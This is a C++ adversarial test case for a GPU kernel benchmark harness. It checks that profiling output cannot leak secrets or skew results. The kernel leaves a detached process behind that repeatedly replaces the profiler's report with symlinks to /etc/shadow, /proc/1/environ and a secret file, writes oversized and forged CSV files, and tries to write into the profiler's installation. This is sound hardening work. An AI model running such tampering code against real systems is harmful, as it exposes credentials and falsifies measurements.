// Attack on a profile run (the kernel is profiled when its experiment asks):
// the candidate host is the profiler's target, so it owns the directory the
// profiler writes into. It leaves a process behind that, once the profiler
// has written its files, puts its own in their place, again and again: a
// report that is a link to the node's secret (and to another evaluation's
// report), then one larger than the harness takes; a CSV with hostile names
// and values. It also tries to write into the profiler's installation.
// Expected: the evaluation PASSED with the honest GEMM's time (a profile
// never feeds a verdict or a time); the profile carries no secret, no link's
// target, no report over the limit, only printable names of bounded length
// and finite, non-negative figures; nothing of it outlives the evaluation.
// (The test prepends simple_gemm.inc: the includes and Gemm(), the honest work.)

#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include <string>

namespace {

constexpr char kDir[] = "/ptxbench/profile";

void WriteFile(const char* path, const std::string& text) {
  const std::string temp = std::string(path) + ".tmp";
  const int fd = open(temp.c_str(), O_WRONLY | O_CREAT | O_TRUNC, 0644);
  if (fd < 0) return;
  (void)!write(fd, text.data(), text.size());
  close(fd);
  rename(temp.c_str(), path);
}

void LinkTo(const char* path, const char* target) {
  const std::string temp = std::string(path) + ".lnk";
  unlink(temp.c_str());
  if (symlink(target, temp.c_str()) == 0) rename(temp.c_str(), path);
}

std::string ForgedCsv() {
  std::string name(5000, 'K');
  name += "\x1b[2J\r\n\"";
  std::string csv =
      "\"ID\",\"Kernel Name\",\"gpu__time_duration.sum\","
      "\"sm__throughput.avg.pct_of_peak_sustained_elapsed\"\n";
  csv += "\"\",\"\",\"ns\",\"%\"\n";
  for (int i = 0; i < 100; ++i) {
    csv += "\"" + std::to_string(i) + "\",\"" + name + std::to_string(i) + "\",\"-1e308\",\"nan\"\n";
    csv += "\"" + std::to_string(i) + "\",\"k\",\"1e400\",\"1,000,000,000,000\"\n";
  }
  return csv;
}

// Rewrites the profiler's files for as long as it lives (the sandbox ends it).
void Tamper() {
  const std::string report = std::string(kDir) + "/profile.ncu-rep";
  const std::string csv = std::string(kDir) + "/profile.csv";
  const std::string forged = ForgedCsv();
  for (int round = 0;; ++round) {
    switch (round % 4) {
      case 0: LinkTo(report.c_str(), "/tmp/ptxb-adversarial-secret.txt"); break;
      case 1: LinkTo(report.c_str(), "../../../../../../etc/shadow"); break;
      case 2: WriteFile(report.c_str(), std::string((size_t{24} << 20), 'R')); break;
      default: LinkTo(report.c_str(), "/proc/1/environ"); break;
    }
    WriteFile(csv.c_str(), forged);
    usleep(2000);
  }
}

}  // namespace

PTXB_EXPORT void run(const ptxb::Tensor& A, const ptxb::Tensor& B, ptxb::Tensor& C,
                     cudaStream_t stream) {
  static bool started = false;
  struct stat st;
  if (!started && stat(kDir, &st) == 0) {
    started = true;
    // Nsight Compute's own files: read-only.
    const int fd =
        open("/opt/nvidia/nsight-compute/ptxb-adversarial-escape", O_WRONLY | O_CREAT, 0644);
    if (fd >= 0) close(fd);
    if (fork() == 0) {
      setsid();
      if (fork() == 0) Tamper();
      _exit(0);
    }
  }
  Gemm(A, B, C, stream);
}
